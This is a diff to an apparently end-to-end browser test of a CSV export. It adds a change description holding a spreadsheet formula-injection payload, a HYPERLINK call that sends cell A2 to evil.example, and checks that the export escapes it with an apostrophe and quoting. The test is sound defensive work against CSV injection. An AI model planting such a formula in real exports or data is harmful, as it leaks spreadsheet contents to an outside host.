@@ -204,7 +204,10 @@ test('newer changes are told of and do not move what one reads; the page is offe
   await page.getByText('No Results Found. Please try adjusting your search criteria.').waitFor()
   await page.getByText('Live', { exact: true }).waitFor()
   const now = new Date().toISOString()
-  await takeIn('changes', [manual(9009, '01:00', { summary: 'An e2e-newer one', actual_start: now })])
+  const description = '=HYPERLINK("https://evil.example/?x="&A2,"Click")\nsecond line'
+  await takeIn('changes', [
+    manual(9009, '01:00', { summary: 'An e2e-newer one', description, actual_start: now }),
+  ])
   await page.getByRole('button', { name: 'Newer changes: refresh' }).click()
   await cards(page).first().waitFor()
   const downloading = page.waitForEvent('download')
@@ -213,5 +216,7 @@ test('newer changes are told of and do not move what one reads; the page is offe
   expect(download.suggestedFilename()).toMatch(/^changes-manual-\d{4}-\d{2}-\d{2}\.csv$/)
   const [header, row] = readFileSync(await download.path(), 'utf8').split('\r\n')
   expect(header).toContain('Ticket,Summary,Description,Status')
-  expect(row).toContain('CHG-9009,An e2e-newer one')
+  expect(row).toContain(
+    `CHG-9009,An e2e-newer one,"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click"")\nsecond line"`,
+  )
 })
